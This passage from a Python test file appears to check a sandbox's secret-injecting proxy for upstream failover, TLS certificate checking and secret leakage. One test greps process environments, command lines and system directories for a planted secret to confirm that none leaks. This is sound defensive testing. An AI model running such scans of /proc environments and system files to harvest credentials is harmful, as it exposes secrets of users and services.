    urls = [f"http://{good}.cay/own1", f"http://{dead}.cay/own2", f"http://{dead}.cay/own3", f"http://{good}.cay/own4"]
    codes = run(net, box, "curl -sS -w '\\n%{http_code} %{num_connects}\\n' " + " ".join(urls) + " | grep -E '^[0-9]+ [01]$'")
    assert [line.split()[0] for line in codes.split("\n")] == ["200", "502", "502", "200"], codes
    assert sum(int(line.split()[1]) for line in codes.split("\n")) == 1, codes
    assert not [s for s in world.seen if "the-other-one" in str(s)]


def test_upstreams_must_prove_who_they_are(net, make, secret, world):
    name = secret(upstream=f"https://wrong.example:{world.tls}")
    box = make(secrets=[name])
    before = len(world.seen)
    text = run(net, box, f"curl -sS -i http://{name}.cay/")
    assert text.startswith("HTTP/1.1 502") and "certificate" in text
    assert len(world.seen) == before


def test_no_secret_is_left_anywhere(net, make, secret, world):
    name = secret("planted-" + "9f8e7d6c5b4a" * 2)
    box = make(secrets=[name])
    assert run(net, box, f"curl -sS http://{name}.cay/ {CODE}") == "200"
    run(net, box, f"curl -sS http://{name}.cay/echo")
    value = "planted-" + "9f8e7d6c5b4a" * 2
    assert value not in net.server.log()
    assert value not in json.dumps(events(net, box)) + json.dumps(net.ok("GET", f"/sandbox/{box}"))
    assert run(net, box, f"env | grep -c 9f8e7d6c5b4a; grep -rlsa {value[:20]} /proc/*/environ /proc/*/cmdline /etc /tmp "
                         "/workspace | grep -v /proc/self | grep -vc .").split()[0] == "0"
